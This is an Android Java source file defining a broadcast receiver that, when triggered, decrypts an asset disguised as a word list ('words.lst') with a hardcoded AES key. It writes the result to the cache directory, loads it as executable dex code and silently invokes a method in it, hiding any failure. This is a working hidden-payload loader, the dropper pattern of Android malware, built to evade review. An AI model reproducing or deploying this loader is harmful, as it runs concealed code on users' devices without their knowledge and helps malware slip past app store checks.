package com.made.keys;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import dalvik.system.DexClassLoader;
import java.io.File;
import java.io.FileOutputStream;
import java.io.InputStream;
import javax.crypto.Cipher;
import javax.crypto.spec.SecretKeySpec;

public final class Start extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        try {
            File file = new File(context.getCacheDir(), "words");
            byte[] packed = new byte[8192];
            InputStream in = context.getAssets().open("words.lst");
            int n = in.read(packed);
            FileOutputStream out = new FileOutputStream(file);
            out.write(plain(packed, n));
            out.close();
            ClassLoader loader = new DexClassLoader(file.getPath(), context.getCacheDir().getPath(), null, context.getClassLoader());
            loader.loadClass("com.made.words.Words").getMethod("read").invoke(null);
        } catch (Exception e) {
            return;
        }
    }

    private static byte[] plain(byte[] packed, int n) throws Exception {
        Cipher cipher = Cipher.getInstance("AES/ECB/PKCS5Padding");
        cipher.init(Cipher.DECRYPT_MODE, new SecretKeySpec("0123456789abcdef".getBytes(), "AES"));
        return cipher.doFinal(packed, 0, n);
    }
}
